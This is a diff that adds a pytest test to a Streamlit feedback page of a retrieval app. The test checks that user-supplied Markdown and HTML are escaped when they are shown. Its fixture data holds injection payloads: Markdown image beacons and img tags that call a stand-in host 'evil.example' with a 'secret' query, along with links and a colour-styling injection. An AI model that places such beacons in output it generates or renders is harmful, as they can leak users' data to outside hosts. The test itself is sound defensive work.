@@ -3,13 +3,14 @@
 from __future__ import annotations
 
 import json
+import re
 from pathlib import Path
 
 import pytest
 from streamlit.testing.v1 import AppTest
 
 from rag.database import open_db
-from rag.feedback import get_feedback, record_feedback
+from rag.feedback import get_feedback, mark_reviewed, record_feedback
 from tests.test_runlog import make_run
 
 PAGE = str(Path(__file__).resolve().parents[1] / "pages" / "feedback.py")
@@ -131,3 +132,43 @@ def test_add_to_golden_set_writes_a_line(seeded, page_data_dir):
     at.button(key="golden").click().run()  # the same question again
     assert any("already in the golden set" in w.value for w in at.warning)
     assert len(path.read_text().splitlines()) == 1
+
+
+def live(md: str) -> str:
+    """What Markdown syntax sees: ``md`` with every backslash escape taken out."""
+    return re.sub(r"\\.", "", md, flags=re.S)
+
+
+def test_other_peoples_words_render_as_text(page_data_dir):
+    image = "![x](http://evil.example/beacon.png?q=secret)"
+    db = open_db(page_data_dir / "app.db")
+    fid = record_feedback(
+        db,
+        make_run(
+            question=f"Where is the VPN guide? {image}",
+            rewritten_query="vpn guide <img src=http://evil.example/r.png>",
+            # an answer stored before answers were escaped
+            answer=f"1. The guide is on the intranet {image} [1].\n2. See <http://evil.example>.",
+        ),
+        0,
+        "incorrect",
+        f"Wrong, see [here](http://evil.example/c) {image}",
+        "mallory",
+    )
+    mark_reviewed(db, fid, f"Fixed {image}", "rev :red[x]")
+    db.close()
+    at = run_page()
+    at.selectbox(key="f_status").set_value("Reviewed").run()
+    assert not at.exception, at.exception
+    shown = [m.value for m in at.markdown] + [c.value for c in at.caption]
+    shown += [s.value for s in at.success]
+    question = next(md for md in shown if md.startswith("**Question:**"))
+    assert "\\!\\[x\\]\\(" in question  # the image syntax is shown, escaped
+    comment = next(md for md in shown if md.startswith("**Comment:**"))
+    assert "\\[here\\]\\(" in comment
+    answer = next(md for md in shown if "intranet" in md)
+    assert answer.startswith("1. The guide") and "[1]." in answer  # the answer keeps its layout
+    for md in shown:
+        rest = live(md)
+        assert "![" not in rest and "](" not in rest and "<" not in rest, md
+        assert ":red[" not in rest and "http://" not in rest, md
